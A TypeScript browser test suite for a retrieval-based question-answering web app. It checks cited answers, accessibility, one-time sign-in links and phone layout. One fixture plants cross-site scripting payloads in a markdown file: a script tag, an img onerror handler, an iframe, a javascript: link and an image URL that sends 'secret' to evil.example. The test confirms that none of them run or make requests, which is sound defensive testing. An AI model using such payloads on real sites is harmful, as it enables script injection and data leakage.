import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { AxeBuilder } from '@axe-core/playwright';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { chromiumPath, openBrowser } from './browser.ts';
import { openSandbox, type Sandbox } from './sandbox.ts';

let gecko: Sandbox;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let address: string;
/** What the page asked for beyond its own origin, and what went wrong in it. */
let strayRequests: string[];
let problems: string[];

const hostile = [
  '---',
  'title: \'<img src="https://evil.example/t.png" onerror="document.title=1">\'',
  '---',
  '# Lantern <script>document.title="owned"</script>',
  '',
  'The lantern burns nine hours. ![pixel](https://evil.example/p.png?q=secret)',
  '<iframe src="https://evil.example/"></iframe> [see](javascript:document.title=2)',
  '',
].join('\n');

describe.skipIf(chromiumPath === null)('the page in a real browser', () => {
  beforeAll(async () => {
    gecko = await openSandbox('');
    const folder = join(gecko.home, 'shop');
    mkdirSync(folder);
    writeFileSync(
      join(folder, 'warranty.md'),
      '# Warranty\n\nThe pump has a warranty of thirty months.\n',
    );
    writeFileSync(join(folder, 'lantern.md'), hostile);
    await gecko.run(['ingest', folder]);
    address = `http://127.0.0.1:${gecko.ports.web}`;
    browser = await openBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    await gecko?.close();
  });
  beforeEach(async () => {
    strayRequests = [];
    problems = [];
    context = await browser.newContext();
    page = await context.newPage();
    page.on('request', (request) => {
      const url = request.url();
      if (!url.startsWith(address) && !url.startsWith('data:')) strayRequests.push(url);
    });
    page.on('pageerror', (error) => problems.push(error.message));
    page.on('console', (message) => {
      if (message.type() === 'error') problems.push(message.text());
    });
    await page.goto(address);
  });
  afterEach(() => context.close());

  async function ask(question: string): Promise<void> {
    await page.getByLabel('Question').fill(question);
    await page.getByRole('button', { name: 'Ask' }).click();
    await page.locator('#generator').getByText('retrieval').waitFor();
  }

  it('answers a question, and a source opens its document at the passage', async () => {
    await ask('Which warranty does the pump have?');
    expect(await page.locator('#answer').textContent()).toContain('thirty months');
    await page.getByRole('button', { name: /shop\/warranty\.md:\d+/ }).click();
    expect(await page.locator('#document-text mark').textContent()).toContain('thirty months');
    expect(await page.getByRole('heading', { name: 'shop/warranty.md' }).isVisible()).toBe(true);
    expect({ problems, strayRequests }).toEqual({ problems: [], strayRequests: [] });
  });

  it('asks by the keyboard alone', async () => {
    await page.getByLabel('Question').focus();
    await page.keyboard.type('Which warranty does the pump have?');
    await page.keyboard.press('Enter');
    await page.locator('#answer').getByText('thirty months').waitFor();
  });

  it('shows a hostile document as text, and lets nothing out', async () => {
    await ask('How long does the lantern burn?');
    expect(await page.locator('#answer').textContent()).toContain('nine hours');
    await page.getByRole('button', { name: /shop\/lantern\.md/ }).click();
    await page.locator('#document-text mark').waitFor();
    expect(await page.title()).toBe('gecko');
    expect(await page.locator('main img, main iframe, main script, main a').count()).toBe(0);
    expect({ problems, strayRequests }).toEqual({ problems: [], strayRequests: [] });
  });

  it('says that an answer broke off', async () => {
    const body = 'event: token\ndata: {"text":"Thirty"}\n\n';
    await page.route('**/api/rag/ask', (route) =>
      route.fulfill({ contentType: 'text/event-stream', body }),
    );
    await page.getByLabel('Question').fill('How long is the warranty?');
    await page.getByRole('button', { name: 'Ask' }).click();
    await page.getByText('The answer broke off before its end.').waitFor();
  });

  it('says plainly that the corpus does not answer', async () => {
    await ask('What is the capital of Mongolia?');
    expect(await page.locator('#answer').textContent()).toMatch(/do not answer this question/);
    expect(await page.locator('#citations li').count()).toBe(0);
  });

  it('is signed in by a link that works once', async () => {
    const { document } = await gecko.json(['open', '--no-browser']);
    const link = String(document.link);
    expect(await page.locator('#session').textContent()).toMatch(/^Not signed in/);
    await page.goto(link);
    await page.locator('#session').getByText('Signed in.').waitFor();
    const [cookie] = await context.cookies();
    expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict' });
    expect((await page.goto(link))?.status()).toBe(403);
  });

  it.each(['light', 'dark'] as const)('has no accessibility violation in %s', async (scheme) => {
    await page.emulateMedia({ colorScheme: scheme });
    await ask('Which warranty does the pump have?');
    await page.getByRole('button', { name: /shop\/warranty\.md/ }).click();
    const { violations } = await new AxeBuilder({ page }).analyze();
    expect(violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html}`)).toEqual([]);
  });

  it('fits a phone without scrolling sideways', async () => {
    await page.setViewportSize({ width: 320, height: 640 });
    await ask('How long does the lantern burn?');
    const width = await page.evaluate('document.documentElement.scrollWidth');
    expect(width).toBeLessThanOrEqual(320);
  });
});
